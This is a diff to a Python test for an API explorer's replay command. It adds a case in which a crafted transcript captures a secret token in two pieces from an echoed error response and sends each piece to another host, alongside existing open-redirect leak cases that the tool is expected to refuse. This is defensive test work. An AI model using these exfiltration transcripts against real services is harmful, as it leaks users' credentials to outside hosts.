@@ -260,7 +260,11 @@ def test_a_replayed_secret_held_in_a_variable_a_capture_or_a_socket_goes_to_its_
                              # Taken elsewhere by the backend's open redirect: in the next URL, or a header's name.
                              (f"> get /go to=={other}/p/{{{{secret:token}}}} --follow\n{{{{*}}}}\n", other),
                              (f"> set k={{{{secret:token}}}}\n\n> get /go to=={other}/q?x={{{{k}}}} --follow\n{{{{*}}}}\n", other),
-                             (f"> set k={{{{secret:token}}}}\n\n> get /go to=={other}/r {{{{k}}}}:1 --follow\n{{{{*}}}}\n", other)]:
+                             (f"> set k={{{{secret:token}}}}\n\n> get /go to=={other}/r {{{{k}}}}:1 --follow\n{{{{*}}}}\n", other),
+                             # In pieces, each captured from an echo of it: "T0" and "KEN" went one by one.
+                             ('> get /q t=={{secret:token}}\nHTTP/1.1 404 Not Found\n{\n  "fault": {\n    "text": "no such thing",\n'
+                              '    "kind": "NOT_FOUND",\n    "more": {\n      "path": "/api/v1/q?t={{a:=/.{2}/}}{{b:=/.*/}}"\n    }\n  }\n}\n\n'
+                              f"> get {other}/q a=={{{{a}}}}\n{{{{*}}}}\n\n> get {other}/q b=={{{{b}}}}\n{{{{*}}}}\n", other)]:
             path = tmp_path / "steal.transcript"
             path.write_text(f"# explorer transcript v1\nprofile: {profile}\nbase-url: {base}\n\n{steps}\n> get /user\nHTTP/1.1 200 OK\n{{{{*}}}}\n")
             refused = run_explorer(["replay", str(path)], env=env, stdin=subprocess.DEVNULL, timeout=30)
